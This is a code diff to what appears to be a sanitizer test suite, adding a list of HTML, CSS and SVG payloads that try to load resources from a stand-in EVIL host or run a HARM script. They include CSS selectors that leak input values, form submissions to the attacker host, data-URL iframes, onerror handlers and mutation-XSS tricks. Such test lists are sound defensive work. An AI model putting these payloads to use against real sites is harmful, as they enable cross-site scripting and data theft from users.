@@ -180,6 +180,41 @@ const NEWER_FETCHES = [
   ].map((style) => `<p style='${style.replaceAll("U", `${EVIL}/style`)}'>x</p>`),
 ];
 
+/** Ways out of a style sheet, of a form and of a document in a document, and disguises, that the lists above do not have. */
+const FURTHER = [
+  `<link rel="alternate stylesheet" title="x" href="${EVIL}/alternate.css">`,
+  `<link rel="preconnect stylesheet" href="${EVIL}/two.css">`,
+  `<svg><rect width="9" height="9" fill="url(${EVIL}/a.svg#p)"></rect></svg>`,
+  `<svg><path d="M0 0h9" marker-start="url(${EVIL}/a.svg#m)"></path></svg>`,
+  `<svg><style>rect{fill:url(${EVIL}/svg-style)}p{background:url(${EVIL}/svg-p)}</style></svg><p>x</p>`,
+  `<style>@property --u{syntax:"<url>";inherits:false;initial-value:url(${EVIL}/property)}p{background:var(--u)}</style><p>x</p>`,
+  `<style>@keyframes k{from{background:url(${EVIL}/keyframe)}}p{animation:k 1s}</style><p>x</p>`,
+  `<style>body:has(input[value^=s]) p{background:url(${EVIL}/has)}</style><input value="secret"><p>x</p>`,
+  `<style>@container (min-width:1px){p{background:url(${EVIL}/container)}}div{container-type:inline-size}</style><div><p>x</p></div>`,
+  `<style>@font-face{font-family:f;src:url(${EVIL}/s.woff2);unicode-range:U+73}p{font-family:f}</style><p>s</p>`,
+  `<style>::file-selector-button{background:url(${EVIL}/pseudo)}</style><input type="file">`,
+  `<style>::-webkit-scrollbar{background:url(${EVIL}/bar)}div{overflow:scroll;height:9px}</style><div><p>x</p></div>`,
+  ...["clip-path:url(U#c)", "mask:url(U#m)", "-webkit-mask-box-image:url(U)"].map(
+    (style) => `<p style="${style.replace("U", `${EVIL}/style`)}">x</p>`,
+  ),
+  `<iframe src="data:text/html,<img src='${EVIL}/in-data.png'>"></iframe>`,
+  `<iframe srcdoc="<meta http-equiv=refresh content=0;url=${EVIL}/inner>"></iframe>`,
+  `<embed type="text/html" src="data:text/html,<img src='${EVIL}/in-embed.png'>">`,
+  `<object data="data:text/html,<img src='${EVIL}/in-object.png'>"></object>`,
+  `<form action="${EVIL}/get"><input id="trap" type="image" alt="x"></form>`,
+  `<form action="${EVIL}/target" id="g"></form><button id="trap" form="g" formtarget="_top">x</button>`,
+  `<form method="dialog" action="${EVIL}/dialog"><button id="trap" formmethod="get">x</button></form>`,
+  `<details><summary id="trap">x</summary><img loading="lazy" src="${EVIL}/details.png"></details>`,
+  `<button id="trap" popovertarget="pop2">x</button><div popover id="pop2"><p style="background:url(${EVIL}/popover)">x</p></div>`,
+  `<svg><animateMotion onend="${HARM}" dur="0.01s"></animateMotion></svg>`,
+  `<svg><image href="/nowhere" onerror="${HARM}"></image></svg>`,
+  `<svg><title><img src="/nowhere" onerror="${HARM}"></title></svg>`,
+  `<math><annotation-xml encoding="text/html"><img src="/nowhere" onerror="${HARM}"></annotation-xml></math>`,
+  `<select><option>x</select><xmp><img src="/nowhere"></xmp><img src="/nowhere" onerror="${HARM}">`,
+  `<div><template shadowrootmode="closed"><img src="/nowhere" onerror="${HARM}"></template></div>`,
+  `<iframe src="javascript&colon;${HARM}"></iframe>`,
+];
+
 /** All of them. */
 export const PAYLOADS: readonly string[] = [
   ...STATEMENTS.map((statement) => `<script>${statement}</script>`),
@@ -190,4 +225,5 @@ export const PAYLOADS: readonly string[] = [
   ...DISGUISED,
   ...NEWER_HANDLERS,
   ...NEWER_FETCHES,
+  ...FURTHER,
 ];
